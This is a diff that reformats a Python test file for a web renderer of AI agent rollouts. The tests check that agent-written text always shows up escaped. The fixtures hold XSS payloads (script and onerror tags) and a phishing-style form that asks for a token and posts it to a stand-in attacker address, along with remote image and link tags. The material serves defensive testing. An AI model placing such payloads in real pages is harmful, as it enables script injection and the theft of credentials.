@@ -11,31 +11,52 @@ from harness_env.server.web import render
 
 
 def _turn(index, prompt_msgs, text="", tool_calls=(), logps=(), tokens=(), ids=()):
-    return Turn(index=index, request_messages=list(prompt_msgs), completion_text=text, tool_calls=list(tool_calls),
-                per_token_logps=list(logps), completion_tokens=list(tokens), completion_token_ids=list(ids),
-                upstream_status=200, capture_level="tokens", request_tools=[{"type": "function"}])
+    return Turn(
+        index=index,
+        request_messages=list(prompt_msgs),
+        completion_text=text,
+        tool_calls=list(tool_calls),
+        per_token_logps=list(logps),
+        completion_tokens=list(tokens),
+        completion_token_ids=list(ids),
+        upstream_status=200,
+        capture_level="tokens",
+        request_tools=[{"type": "function"}],
+    )
 
 
 CALL = {"id": "c1", "type": "function", "function": {"name": "bash", "arguments": '{"command": "echo hi > a.txt"}'}}
 SYS = {"role": "system", "content": "You are an agent."}
 USER = {"role": "user", "content": "Write a.txt"}
-T0 = _turn(0, [SYS, USER], tool_calls=[CALL], logps=[-0.1, -2.5, -0.3], tokens=["{\"c", "omm", "and"], ids=[1, 2, 3])
-T1 = _turn(1, [SYS, USER, {"role": "assistant", "content": None, "tool_calls": [CALL]},
-               {"role": "tool", "tool_call_id": "c1", "content": "<b>ok</b>"}], text="done", logps=[-0.05], tokens=["done"], ids=[4])
+T0 = _turn(0, [SYS, USER], tool_calls=[CALL], logps=[-0.1, -2.5, -0.3], tokens=['{"c', "omm", "and"], ids=[1, 2, 3])
+T1 = _turn(
+    1,
+    [SYS, USER, {"role": "assistant", "content": None, "tool_calls": [CALL]}, {"role": "tool", "tool_call_id": "c1", "content": "<b>ok</b>"}],
+    text="done",
+    logps=[-0.05],
+    tokens=["done"],
+    ids=[4],
+)
 
 
 def _result(**kw) -> RolloutResult:
-    base = dict(reward=1.0, harness="pi", proxy_turns=[T0, T1], capture_level="tokens", wall_s=1.5,
-                verify_results=[CommandResult(cmd="grep -q x <a.txt", exit_code=0, stdout="line1\nline2\n", duration_s=0.01)],
-                files={"a.txt": "<script>alert(1)</script>"})
+    base = dict(
+        reward=1.0,
+        harness="pi",
+        proxy_turns=[T0, T1],
+        capture_level="tokens",
+        wall_s=1.5,
+        verify_results=[CommandResult(cmd="grep -q x <a.txt", exit_code=0, stdout="line1\nline2\n", duration_s=0.01)],
+        files={"a.txt": "<script>alert(1)</script>"},
+    )
     return RolloutResult(**{**base, **kw})
 
 
 def test_reward_colour_pass_fail_none():
-    assert 'he-pass' in render.reward_html(_result()) and 'data-reward="1.0"' in render.reward_html(_result())
-    assert 'he-fail' in render.reward_html(_result(reward=0.5))
-    assert 'he-partial' in render.reward_html(_result(reward=0.8, reward_source="judge"))
-    assert 'he-fail' in render.reward_html(_result(reward=0.0, reward_source="zero_check"))
+    assert "he-pass" in render.reward_html(_result()) and 'data-reward="1.0"' in render.reward_html(_result())
+    assert "he-fail" in render.reward_html(_result(reward=0.5))
+    assert "he-partial" in render.reward_html(_result(reward=0.8, reward_source="judge"))
+    assert "he-fail" in render.reward_html(_result(reward=0.0, reward_source="zero_check"))
     none = render.reward_html(_result(reward=None, error="boom <x>", error_kind="endpoint"))
     assert "he-none" in none and "no reward" in none and "boom &lt;x&gt;" in none
     assert "cancelled" in render.reward_html(None, cancelled=True)
@@ -157,12 +178,21 @@ def test_redact_and_json():
 
 PNG_B64 = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
 GRADING = {
-    "renderer": "resvg", "zero_reasons": [], "page_valid": True, "rendered_png_b64": PNG_B64,
+    "renderer": "resvg",
+    "zero_reasons": [],
+    "page_valid": True,
+    "rendered_png_b64": PNG_B64,
     "timings": {"checks_and_render_s": 0.05, "judge_s": 1.2},
-    "judge": {"judge_model": "judge-vl", "reward": 0.75, "attempts": 2, "seconds": 1.234, "attempt_log": [], "error": None,
-              "raw_answer": '{"shape": {"reason": "<b>square</b>", "score": 1}}',
-              "scores": {"shape": {"score": 1.0, "reason": "a <b>square</b>", "weight": 3.0},
-                         "colour": {"score": 0.0, "reason": "not red & blue", "weight": 1.0}}},
+    "judge": {
+        "judge_model": "judge-vl",
+        "reward": 0.75,
+        "attempts": 2,
+        "seconds": 1.234,
+        "attempt_log": [],
+        "error": None,
+        "raw_answer": '{"shape": {"reason": "<b>square</b>", "score": 1}}',
+        "scores": {"shape": {"score": 1.0, "reason": "a <b>square</b>", "weight": 3.0}, "colour": {"score": 0.0, "reason": "not red & blue", "weight": 1.0}},
+    },
 }
 
 
@@ -193,17 +223,30 @@ def test_only_plain_base64_reaches_an_img_src():
     assert "no reference image" in render.grading_html(GRADING, "")  # the reference could not be read
 
 
-HARBOR_INFO = HarborRunInfo(task_name="hello-world", task_path="tasks/hello-world", agent="pi", agent_version="1.6.0", sandbox="local",
-                            exception="RuntimeError: <agent> crashed", verifier_rewards={"reward": 0.5, "<style>": 1.0})
+HARBOR_INFO = HarborRunInfo(
+    task_name="hello-world",
+    task_path="tasks/hello-world",
+    agent="pi",
+    agent_version="1.6.0",
+    sandbox="local",
+    exception="RuntimeError: <agent> crashed",
+    verifier_rewards={"reward": 0.5, "<style>": 1.0},
+)
 TRAJECTORY = {
     "schema_version": "ATIF-v1.6",
     "agent": {"name": "pi", "version": "1.6.0", "model_name": "harness-env/m"},
     "steps": [
         {"step_id": 1, "source": "user", "message": "Write <b>hello</b> into /app/hello.txt"},
-        {"step_id": 2, "source": "agent", "message": "x" * 1000,
-         "tool_calls": [{"tool_call_id": "c1", "function_name": "bash", "arguments": {"command": "echo hello"}},
-                        {"tool_call_id": "c2", "function_name": "<img src=x onerror=alert(1)>", "arguments": {}}],
-         "observation": {"results": [{"source_call_id": "c1", "content": "ok"}, {"source_call_id": "c2", "content": "?"}]}},
+        {
+            "step_id": 2,
+            "source": "agent",
+            "message": "x" * 1000,
+            "tool_calls": [
+                {"tool_call_id": "c1", "function_name": "bash", "arguments": {"command": "echo hello"}},
+                {"tool_call_id": "c2", "function_name": "<img src=x onerror=alert(1)>", "arguments": {}},
+            ],
+            "observation": {"results": [{"source_call_id": "c1", "content": "ok"}, {"source_call_id": "c2", "content": "?"}]},
+        },
         {"step_id": 3, "source": "agent", "message": [{"type": "text", "text": "done"}, {"type": "image", "source": {"path": "a.png"}}]},
     ],
 }
@@ -263,22 +306,45 @@ def test_message_content_is_flattened_one_way_for_chat_and_trajectory():
 
 # -- what the agent wrote shows as text, never as markup ------------------------------------------
 EVIL = "203.0.113.9"  # TEST-NET-3: a page that asked for it would be caught, and nothing answers
-HOSTILE = (f'<img src="http://{EVIL}/i.png"><video src="http://{EVIL}/v.mp4" autoplay></video>'
-           f'<form action="http://{EVIL}/t"><p>Re-enter your token</p><input name="token"></form><a href="http://{EVIL}/">sign in</a> '
-           f"![x](http://{EVIL}/m.png) [Re-enter your token](http://{EVIL}/l) <http://{EVIL}/auto> www.{EVIL}.example "
-           f"http://{EVIL}/bare a@{EVIL}.example $$\\href{{http://{EVIL}}}{{x}}$$ **bold** `code` | cell |\n---\n# heading")
+HOSTILE = (
+    f'<img src="http://{EVIL}/i.png"><video src="http://{EVIL}/v.mp4" autoplay></video>'
+    f'<form action="http://{EVIL}/t"><p>Re-enter your token</p><input name="token"></form><a href="http://{EVIL}/">sign in</a> '
+    f"![x](http://{EVIL}/m.png) [Re-enter your token](http://{EVIL}/l) <http://{EVIL}/auto> www.{EVIL}.example "
+    f"http://{EVIL}/bare a@{EVIL}.example $$\\href{{http://{EVIL}}}{{x}}$$ **bold** `code` | cell |\n---\n# heading"
+)
 
 
 def _hostile_result() -> RolloutResult:
     call = {"id": HOSTILE, "type": "function", "function": {"name": HOSTILE, "arguments": HOSTILE}}
-    msgs = [{"role": "system", "content": HOSTILE}, {"role": "user", "content": [{"type": "text", "text": HOSTILE}]},
-            {"role": "assistant", "content": HOSTILE, "reasoning_content": HOSTILE, "tool_calls": [call]},
-            {"role": "tool", "name": HOSTILE, "content": HOSTILE}]
-    turn = Turn(index=0, request_messages=msgs, completion_text=HOSTILE, reasoning_text=HOSTILE, tool_calls=[call],
-                upstream_error=HOSTILE, upstream_status=500, per_token_logps=[-1.0], completion_tokens=[HOSTILE], completion_token_ids=[1])
-    return _result(proxy_turns=[turn], error=HOSTILE, error_kind="agent_error", reward_notes=[HOSTILE], sandbox_notes=[HOSTILE],
-                   rollout_type_reason=HOSTILE, task_id=HOSTILE, files={HOSTILE: HOSTILE},
-                   verify_results=[CommandResult(cmd=HOSTILE, exit_code=1, stdout=HOSTILE, stderr=HOSTILE)])
+    msgs = [
+        {"role": "system", "content": HOSTILE},
+        {"role": "user", "content": [{"type": "text", "text": HOSTILE}]},
+        {"role": "assistant", "content": HOSTILE, "reasoning_content": HOSTILE, "tool_calls": [call]},
+        {"role": "tool", "name": HOSTILE, "content": HOSTILE},
+    ]
+    turn = Turn(
+        index=0,
+        request_messages=msgs,
+        completion_text=HOSTILE,
+        reasoning_text=HOSTILE,
+        tool_calls=[call],
+        upstream_error=HOSTILE,
+        upstream_status=500,
+        per_token_logps=[-1.0],
+        completion_tokens=[HOSTILE],
+        completion_token_ids=[1],
+    )
+    return _result(
+        proxy_turns=[turn],
+        error=HOSTILE,
+        error_kind="agent_error",
+        reward_notes=[HOSTILE],
+        sandbox_notes=[HOSTILE],
+        rollout_type_reason=HOSTILE,
+        task_id=HOSTILE,
+        files={HOSTILE: HOSTILE},
+        verify_results=[CommandResult(cmd=HOSTILE, exit_code=1, stdout=HOSTILE, stderr=HOSTILE)],
+    )
 
 
 def _tags(markup: str) -> set[str]:
@@ -291,8 +357,7 @@ def test_the_conversation_shows_every_message_and_title_as_escaped_text():
     for m in msgs:
         assert _tags(m["content"]) <= {"div", "pre"}, m["content"]  # the wrapper only
         assert _tags(m.get("metadata", {}).get("title", "")) == set()
-        assert HOSTILE.replace("\n", "") in html.unescape(m["content"]).replace("\n", "") or "branch" in m["content"] \
-            or "http" not in m["content"]
+        assert HOSTILE.replace("\n", "") in html.unescape(m["content"]).replace("\n", "") or "branch" in m["content"] or "http" not in m["content"]
 
 
 def _markdown_html(md: str) -> str:
@@ -308,8 +373,13 @@ def test_data_in_markdown_components_is_inert():
 
     result = _hostile_result()
     points = render.logprob_points(result.proxy_turns)
-    for md in (render.summary_markdown(result), render.logprob_summary_markdown(points), md_text(HOSTILE),
-               f"**{md_cell(HOSTILE)}**", render.status_line(HOSTILE, 1.0, HOSTILE)):
+    for md in (
+        render.summary_markdown(result),
+        render.logprob_summary_markdown(points),
+        md_text(HOSTILE),
+        f"**{md_cell(HOSTILE)}**",
+        render.status_line(HOSTILE, 1.0, HOSTILE),
+    ):
         shown = _markdown_html(md)
         assert _tags(shown) <= {"p", "strong", "table", "thead", "tbody", "tr", "th", "td", "code"}, shown
         assert not re.search(r"<[^>]*\s(href|src|action)=", shown), shown
@@ -318,9 +388,14 @@ def test_data_in_markdown_components_is_inert():
 
 def test_every_html_renderer_escapes_the_agents_text():
     result = _hostile_result()
-    shown = [render.reward_html(result), render.commands_html(result.verify_results), render.files_html(result.files),
-             render.trajectory_tokens_html(result), render.logprob_svg(render.logprob_points(result.proxy_turns)),
-             render.json_html(render.result_json(result), 10_000)]
+    shown = [
+        render.reward_html(result),
+        render.commands_html(result.verify_results),
+        render.files_html(result.files),
+        render.trajectory_tokens_html(result),
+        render.logprob_svg(render.logprob_points(result.proxy_turns)),
+        render.json_html(render.result_json(result), 10_000),
+    ]
     for markup in shown:
         assert not _tags(markup) & {"img", "video", "form", "a", "input", "audio", "iframe", "source"}, markup
 
